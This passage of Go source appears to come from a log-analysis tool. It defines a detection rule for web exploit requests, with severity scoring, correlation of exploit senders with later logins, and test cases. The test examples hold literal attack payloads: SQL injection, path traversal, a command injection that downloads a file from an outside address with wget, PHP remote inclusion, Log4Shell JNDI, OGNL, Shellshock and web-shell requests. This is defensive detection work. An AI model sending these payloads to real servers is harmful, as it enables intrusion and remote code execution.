		return redirected
	case n == 501 || n == 505 || n == 503 || n == 502:
		return refused
	case n >= 500:
		return crashed
	case n == 499:
		return unknownAnswer
	case n == 444:
		return refused
	}
	return served
}

// dynamicPath reports whether a request's path looks like a program's and not
// like a file that is sent whatever the query says.
func dynamicPath(path string) bool {
	if strings.Contains(path, "/cgi-bin/") {
		return true
	}
	for rest := path; rest != ""; {
		i := strings.IndexByte(rest[1:], '/')
		e := rest
		if i >= 0 {
			e = rest[:i+1]
			rest = rest[i+1:]
		} else {
			rest = ""
		}
		switch extension(e) {
		case "php", "php3", "php4", "php5", "php7", "phtml", "cgi", "pl", "py", "rb", "jsp", "jspx", "do", "action", "asp", "aspx", "cfm", "fcgi", "sh":
			return true
		}
	}
	return false
}

// severityOf says how grave a request is.
func severityOf(m *match, a answer, path string) rules.Severity {
	if a == refused {
		return rules.Low
	}
	if m.ignored(path) && a != crashed {
		return rules.Low
	}
	switch m.attack {
	case crossSite:
		return rules.Low
	case traversal:
		if m.sure && a == served && (dynamicPath(path) || strings.Contains(m.what, "the path")) {
			return rules.High
		}
		return rules.Medium
	case sqlInjection, forgery:
		return rules.Medium
	case knownHole:
		if a == served && m.sure && path != "/" {
			return rules.High
		}
		return rules.Medium
	case webShell:
		if a == served {
			if m.sure && dynamicPath(path) {
				return rules.Critical
			}
			return rules.High
		}
		return rules.Medium
	}
	// Code: a page that ignores its query answers 200 too.
	if dynamicPath(path) && a != redirected {
		return rules.High
	}
	return rules.Medium
}

// exploitChecker gathers requests by address and attack, apart by whether
// they were refused.
type exploitChecker struct {
	logins map[string]*attackerLogin // by address: the first after which another counts
	m      requestMatcher
	groups rules.Groups
	more   map[*rules.Group]*exploitGroup
}

type exploitGroup struct {
	headers  bool // all stand in headers that nothing reads
	attack   attack
	refused  bool
	first    string // the gravest request, for the summary
	severity rules.Severity
	at       int64
	status   map[string]int
}

// attackerLogin is what an address logged in as.
type attackerLogin struct {
	g       rules.Group
	account string
	method  string
}

// login keeps the logins of an address.
func (c *exploitChecker) login(r *timeline.Record) {
	address := r.Fields["address"]
	if r.Fields["action"] != "login-accepted" || !remote(address) || len(r.Stamps) == 0 {
		return
	}
	l := c.logins[address]
	if l == nil {
		if len(c.logins) >= maxAsked {
			return
		}
		if c.logins == nil {
			c.logins = map[string]*attackerLogin{}
		}
		l = &attackerLogin{account: strings.Clone(r.Fields["account"]), method: strings.Clone(r.Fields["method"])}
		c.logins[strings.Clone(address)] = l
	}
	t, note := when(r)
	l.g.Add(r.Evidence, t, note)
	l.g.AddPath(r.Evidence.Path)
}

// loggedIn are the addresses that sent exploits and logged in.
func (c *exploitChecker) loggedIn() []rules.Finding {
	var gs rules.Groups
	c.groups.All(func(_ string, g *rules.Group) {
		l := c.logins[g.Address]
		e := c.more[g]
		if l == nil || e == nil || g.Address == "" || e.attack == crossSite || c.groups.Rest(g) {
			return
		}
		f := gs.Get(g.Address)
		if f.Count == 0 {
			f.Merge(&l.g)
			f.Raise(rules.High)
			f.Title = "An address that sent exploits to the web server logged in"
			f.Techniques = []string{"T1078"}
			f.Address, f.Account = g.Address, l.account
			how := ""
			if l.method != "" {
				how = " with " + show(l.method)
			}
			f.Summary = show(g.Address) + " logged in as " + show(l.account) + how + ", first at " + utc(l.g.First()) + ", and sent requests with " + attackNames[e.attack] + " to the web server, first at " + utc(g.First())
		}
	})
	return gs.Findings(nil)
}

func (c *exploitChecker) Record(r *timeline.Record) {
	if r.Kind != timeline.KindWebAccess {
		c.login(r)
		return
	}
	f := r.Fields
	url := f["url"]
	if url == "" {
		if url = f["path"]; url == "" {
			if url = f["decoded"]; url == "" {
				return
			}
		} else if q := f["query"]; q != "" {
			url += "?" + q
		}
	}
	m := c.m.judge(f["method"], url, f["user_agent"], f["referer"])
	if m.attack == noAttack {
		return
	}
	path, _, _ := strings.Cut(url, "?")
	a := answered(f["status"])
	s := severityOf(&m, a, path)
	state := "\x01"
	if a == refused {
		state = "\x00"
	}
	address := f["address"]
	g := c.groups.Get(address + state + string(rune(m.attack)))
	e := c.more[g]
	if e == nil {
		e = &exploitGroup{headers: true, attack: m.attack, refused: a == refused, status: map[string]int{}}
		if c.more == nil {
			c.more = map[*rules.Group]*exploitGroup{}
		}
		c.more[g] = e
		g.Address = strings.Clone(address)
	}
	if c.groups.Rest(g) {
		g.Address = ""
	}
	t, note := when(r)
	e.headers = e.headers && m.ignored(path)
	g.Raise(s)
	g.Add(r.Evidence, t, note)
	if len(e.status) < 16 || e.status[f["status"]] > 0 {
		e.status[strings.Clone(f["status"])]++
	}
	if e.first == "" || s > e.severity || s == e.severity && t.Unix() < e.at {
		e.severity, e.at = s, t.Unix()
		e.first = show(f["method"]) + " " + show(path) + ", " + m.what
		if m.name != "" {
			e.first += ", " + m.name
		}
	}
}

// maxAnswered is how many addresses may have a finding of their own for one
// kind of attack that was answered, but that likely reached nothing.
const maxAnswered = 25

// crowd gathers the requests of many addresses.
type crowd struct {
	group     rules.Group
	addresses map[string]bool
	status    map[string]int
	first     *exploitGroup
}

func (c *crowd) add(g *rules.Group, e *exploitGroup) {
	if c.addresses == nil {
		c.addresses, c.status = map[string]bool{}, map[string]int{}
	}
	c.group.Merge(g)
	c.addresses[g.Address] = true
	for k, n := range e.status {
		c.status[k] += n
	}
	if f := c.first; f == nil || e.severity > f.severity || e.severity == f.severity && (e.at < f.at || e.at == f.at && e.first < f.first) {
		c.first = e
	}
}

func (c *crowd) finding(a attack, title, summary string) rules.Finding {
	f := c.group.Finding()
	f.Title, f.Techniques = title, attackTechniques(a)
	f.Summary = plural(c.group.Count, "request") + " with " + attackNames[a] + " from " + plural(len(c.addresses), "address") + ", " + summary + c.first.first
	if len(c.addresses) == 1 {
		for only := range c.addresses {
			f.Address = only
		}
	}
	return f
}

func (c *exploitChecker) Findings() []rules.Finding {
	out := c.loggedIn()
	// Refused requests of addresses that were answered too belong to theirs; the
	// rest are the noise of the Internet, a finding for each kind. So are, if they
	// are many, the answered ones that likely reached nothing: a site that answers
	// everything with 200 has thousands.
	var refusedBy, answeredBy [webShell + 1]crowd
	answeredOnly := map[attack]int{}
	c.groups.All(func(_ string, g *rules.Group) {
		if e := c.more[g]; e != nil && !e.refused && g.Severity() <= rules.Medium {
			answeredOnly[e.attack]++
		}
	})
	c.groups.All(func(_ string, g *rules.Group) {
		e := c.more[g]
		if e == nil {
			return
		}
		name := attackNames[e.attack]
		switch {
		case c.groups.Rest(g):
			f := g.Finding()
			f.Title, f.Address = "Exploits in the requests of many more addresses", ""
			f.Summary = plural(g.Count, "request") + " with exploits from more addresses than have room here, answered " + statusText(e.status) + "; the first of the gravest: " + e.first
			out = append(out, f)
		case e.refused:
			if c.more[c.groups.Find(g.Address+"\x01"+string(rune(e.attack)))] == nil {
				refusedBy[e.attack].add(g, e)
			}
		case g.Severity() <= rules.Medium && answeredOnly[e.attack] > maxAnswered:
			answeredBy[e.attack].add(g, e)
		default:
			f := g.Finding()
			f.Title = strings.ToUpper(name[:1]) + name[1:] + " in a request, answered by the server"
			if e.headers {
				f.Title = strings.ToUpper(name[:1]) + name[1:] + " in a header of a request was sent"
			}
			f.Techniques = attackTechniques(e.attack)
			f.Summary = show(g.Address) + " sent " + plural(g.Count, "request") + " with " + name + ", answered " + statusText(e.status)
			if before := c.groups.Find(g.Address + "\x00" + string(rune(e.attack))); before != nil {
				f.Summary += " (and " + strconv.Itoa(before.Count) + " more that were refused)"
			}
			f.Summary += "; the first of the gravest: " + e.first
			out = append(out, f)
		}
	})
	for a := range refusedBy {
		name := attackNames[a]
		if r := &refusedBy[a]; r.first != nil {
			out = append(out, r.finding(attack(a), strings.ToUpper(name[:1])+name[1:]+" in requests, all refused", "all refused; the first: "))
		}
		if r := &answeredBy[a]; r.first != nil {
			out = append(out, r.finding(attack(a), strings.ToUpper(name[:1])+name[1:]+" in requests of many addresses, answered by the server", "answered "+statusText(r.status)+"; the first of the gravest: "))
		}
	}
	return out
}

func attackTechniques(a attack) []string {
	switch a {
	case webShell:
		return []string{"T1505.003"}
	case crossSite:
		return []string{"T1189"}
	case commandInjection:
		return []string{"T1190", "T1059.004"}
	}
	return []string{"T1190"}
}

func statusText(m map[string]int) string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	slices.Sort(keys)
	for i, k := range keys {
		n := m[k]
		if k == "" {
			k = "unknown"
		}
		keys[i] = show(k)
		if len(keys) > 1 || n > 1 {
			keys[i] += " (" + strconv.Itoa(n) + ")"
		}
	}
	return strings.Join(keys, ", ")
}

var webExploitRequest = &rules.Rule{
	ID:    "web-exploit-request",
	Title: "A request carries an exploit",
	Doc: `Requests to the web server that try path traversal, injection of commands, SQL, expressions (JNDI, OGNL, templates) or PHP, inclusion of files and streams,
Shellshock, published holes of one product, use of a web shell, or cross-site scripting; in the target, the user agent and the referrer, decoded as often as they were encoded.
One finding for each address and kind, or for each kind if there are many addresses. Answered with 200, a redirection or a crash of the program: medium, and high where a program's path makes it likely that the
exploit reached it. An address that sent one and also logged in over the network: high. All refused (400, 403, 404, ...): one finding for each kind, low, as every server on the Internet gets such requests.
Innocent: scanners that the owner ordered; pages about these things, whose searches hold the words. A page that ignores its query answers 200 whatever is asked: look at the size.`,
	Severity:   rules.High,
	Techniques: []string{"T1190"},
	Kinds:      []string{timeline.KindWebAccess, timeline.KindAuth, timeline.KindSyslog},
	New:        func(*rules.Env) rules.Checker { return &exploitChecker{} },
	True: []rules.Example{
		{Name: "login of an attacker", Severity: rules.High, Records: []timeline.Record{aRequest("198.51.100.7", "GET", "/a.php?id=1'+UNION+SELECT+1,2--+-", 404), accepted(5, "198.51.100.7", "deploy", "publickey")}},
		one("phpBB's highlight", rules.High, aRequest("198.51.100.7", "GET", "/phpbb/viewtopic.php?t=12&highlight=%2527%252esystem(chr(99)%252echr(100)%252echr(32)%252echr(47)%252echr(116)%252echr(109)%252echr(112))%252e%2527", 200)),
		one("traversal to a program", rules.High, aRequest("198.51.100.7", "POST", "/cgi-bin/.%2e/%2e%2e/%2e%2e/%2e%2e/bin/sh", 200)),
		one("traversal in a parameter", rules.High, aRequest("198.51.100.7", "GET", "/index.php?page=../../../../etc/passwd%00", 200)),
		one("traversal, refused", rules.Low, aRequest("198.51.100.7", "GET", "/index.php?page=../../../../etc/passwd", 404)),
		one("command", rules.High, aRequest("198.51.100.7", "GET", "/ping.php?host=127.0.0.1;wget%20http://198.51.100.7/x%20-O%20/tmp/x", 200)),
		one("backquotes", rules.High, aRequest("198.51.100.7", "GET", "/ping.php?host=%60id%60", 500)),
		one("PHP stream", rules.High, aRequest("198.51.100.7", "POST", "/index.php?file=php://input", 200)),
		one("remote inclusion", rules.High, aRequest("198.51.100.7", "GET", "/index.php?page=http://198.51.100.9/c.txt?", 200)),
		one("PHP as CGI", rules.High, aRequest("198.51.100.7", "POST", "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", 200)),
		one("SQL", rules.Medium, aRequest("198.51.100.7", "GET", "/news.php?id=-1%20UNION%20ALL%20SELECT%201,user(),3--%20-", 200)),
		one("SQL with comments", rules.Medium, aRequest("198.51.100.7", "GET", "/news.php?id=1'/**/or/**/1=1#", 200)),
		one("JNDI in the user agent", rules.Low, aRequest("198.51.100.7", "GET", "/", 200, "user_agent", "${${lower:j}ndi:${::-l}dap://198.51.100.7/a}")),
		one("OGNL", rules.High, aRequest("198.51.100.7", "GET", "/index.action?redirect:%24%7B%23a%3D(new%20java.lang.ProcessBuilder(%27id%27)).start()%7D", 200)),
		one("Shellshock", rules.High, aRequest("198.51.100.7", "GET", "/cgi-bin/status", 200, "user_agent", "() { :;}; /bin/bash -c 'id'")),
		one("PHPUnit", rules.High, aRequest("198.51.100.7", "POST", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", 200)),
		one("ThinkPHP", rules.High, aRequest("198.51.100.7", "GET", `/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=x`, 200)),
		one("web shell", rules.Critical, aRequest("198.51.100.7", "GET", "/images/x.php?cmd=id", 200)),
		one("cross-site scripting", rules.Low, aRequest("198.51.100.7", "GET", "/s.php?q=%3Cscript%3Ealert(1)%3C/script%3E", 200)),
	},
	False: []rules.Example{
		quiet("login of a visitor", aRequest("192.0.2.7", "GET", "/index.php?id=1", 200), accepted(5, "192.0.2.7", "alice", "publickey")),
		quiet("pages and files", aRequest("192.0.2.7", "GET", "/", 200), aRequest("192.0.2.7", "GET", "/css/../img/logo.png", 200), aRequest("192.0.2.7", "GET", "/a%20b/%C3%BCber.html?x=1&y=a+b", 200),
			aRequest("192.0.2.7", "GET", "/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=6.4", 200)),
		quiet("searches", aRequest("192.0.2.7", "GET", "/?s=rock+%26+roll", 200), aRequest("192.0.2.7", "GET", "/search?q=how+to+select+a+union+from+the+list", 200), aRequest("192.0.2.7", "GET", "/search?q=o%27connor+and+sons", 200),
			aRequest("192.0.2.7", "GET", "/search?q=cat+%26+dog", 200), aRequest("192.0.2.7", "GET", "/search?q=/etc/passwd", 200), aRequest("192.0.2.7", "GET", "/search?q=drop+table+legs;+update+your+set", 200)),
		quiet("parameters", aRequest("192.0.2.7", "GET", "/cgi-bin/webscr?cmd=_s-xclick", 200), aRequest("192.0.2.7", "GET", "/api?fields=title|id|date&order=by+2", 200), aRequest("192.0.2.7", "GET", "/login?next=https://www.example.org/home", 302),
			aRequest("192.0.2.7", "GET", "/x;jsessionid=1A2B?cmd=list", 200), aRequest("192.0.2.7", "GET", "/t?redirect=../index.php", 200), aRequest("192.0.2.7", "GET", "/f?filter[price]=10..20&c=id", 200), aRequest("192.0.2.7", "GET", "/i.php?src=../../uploads/a.png", 200),
			aRequest("192.0.2.7", "GET", "/?price=(10,20)&sort={a:1}", 200), aRequest("192.0.2.7", "GET", "/w/api.php?action=query&prop=info|ids&titles=A|B", 200)),
		quiet("browsers", aRequest("192.0.2.7", "GET", "/", 200, "user_agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "referer", "https://www.example.org/?q=$100")),
		quiet("noise that is no request", aRequest("192.0.2.7", "", "\\x16\\x03\\x01\\x02", 400)),
	},
}
